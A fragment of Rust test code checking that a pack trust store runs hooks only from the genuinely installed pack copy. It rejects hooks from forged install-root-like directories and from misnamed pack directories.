                    path: "hooks/a.sh".into(),
                    sha256: digest.clone(),
                    kind: HookKind::Script,
                    commands: vec!["./hooks/a.sh --x".into()],
                    grants: vec![],
                    trusted_at: "t".into(),
                }],
                mcp_servers: vec![],
            },
        );
        store.save(&guard).unwrap();
        let view = TrustView::load(&root);
        assert!(view.is_installed_copy(&pack));
        view.hook(&pack, "./hooks/a.sh --x").unwrap();
        assert_eq!(
            view.remedy(&pack).split_whitespace().nth(2),
            Some("com.example.p")
        );

        // A repository laid out like an install root (pack.lock, .apiary/trust.json beside the
        // pack) is just a directory to the operator's store.
        let repo = tmp.path().join("repo");
        let forged = repo.join("com.example.p");
        write_pack(&forged, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
        std::fs::create_dir_all(repo.join(STATE_DIR)).unwrap();
        std::fs::copy(TrustStore::path(&root), TrustStore::path(&repo)).unwrap();
        std::fs::write(
            repo.join("pack.lock"),
            r#"{"com.example.p": {"source": "x", "version": "1.0.0", "installed_at": "t"}}"#,
        )
        .unwrap();
        let forged_ref = pack_ref(&forged);
        let why = view.hook(&forged_ref, "./hooks/a.sh --x").unwrap_err();
        assert!(why.message.contains("not the installed copy"), "{why}");
        // A directory named like another pack id, whose manifest says otherwise.
        let misnamed = root.join("com.example.q");
        write_pack(&misnamed, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
        assert!(view.hook(&pack_ref(&misnamed), "./hooks/a.sh --x").is_err());
    }
}
